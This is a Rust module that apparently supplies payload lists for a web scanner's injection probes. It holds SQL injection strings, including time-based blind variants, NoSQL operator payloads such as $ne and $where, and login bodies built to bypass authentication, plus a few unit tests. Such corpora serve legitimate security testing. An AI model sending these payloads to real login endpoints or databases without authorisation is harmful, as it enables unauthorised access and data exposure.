//! Payload corpora used by the injection probes.

use serde_json::{Value, json};

/// SQL payloads tried in order against each field. Includes time-based
/// variants so that blind injection shows up as latency.
pub const SQLI_PAYLOADS: &[&str] = &[
    "'",
    "' OR '1'='1",
    "' OR 1=1--",
    "\" OR \"1\"=\"1",
    "' UNION SELECT NULL--",
    "1' AND SLEEP(3)--",
    "'; WAITFOR DELAY '0:0:3'--",
    "1) OR pg_sleep(3)--",
];

/// A value substituted wholesale for one JSON key.
#[derive(Debug, Clone, PartialEq)]
pub enum Payload {
    Scalar(String),
    Operator(Value),
}

impl Payload {
    pub fn to_value(&self) -> Value {
        match self {
            Payload::Scalar(s) => Value::String(s.clone()),
            Payload::Operator(op) => op.clone(),
        }
    }

    pub fn describe(&self) -> String {
        match self {
            Payload::Scalar(s) => s.clone(),
            Payload::Operator(op) => op.to_string(),
        }
    }
}

pub fn nosql_payloads() -> Vec<Payload> {
    vec![
        Payload::Operator(json!({"$ne": null})),
        Payload::Operator(json!({"$ne": ""})),
        Payload::Operator(json!({"$gt": ""})),
        Payload::Operator(json!({"$regex": ".*"})),
        Payload::Operator(json!({"$where": "sleep(5000)"})),
        Payload::Scalar("'; return (new Date().getTime() > 10000) || '".to_string()),
    ]
}

/// Complete login bodies aimed at endpoints that trust their input.
pub fn auth_bypass_bodies() -> Vec<Value> {
    vec![
        json!({"email": "admin'--", "password": "x"}),
        json!({"username": "admin' OR '1'='1", "password": "x"}),
        json!({"email": {"$ne": null}, "password": {"$ne": null}}),
        json!({"username": {"$gt": ""}, "password": {"$gt": ""}}),
        json!({"user": "admin", "pass": {"$ne": ""}}),
        json!({"username": "admin", "password": "admin"}),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_corpora_are_populated() {
        assert!(!SQLI_PAYLOADS.is_empty());
        assert!(SQLI_PAYLOADS.iter().all(|p| !p.is_empty()));
        assert!(auth_bypass_bodies().iter().all(Value::is_object));
    }

    #[test]
    fn test_nosql_payloads_start_with_not_equal_null() {
        let payloads = nosql_payloads();
        assert_eq!(payloads[0].to_value(), json!({"$ne": null}));
        assert_eq!(payloads[0].describe(), r#"{"$ne":null}"#);
        assert!(matches!(payloads.last(), Some(Payload::Scalar(_))));
    }
}
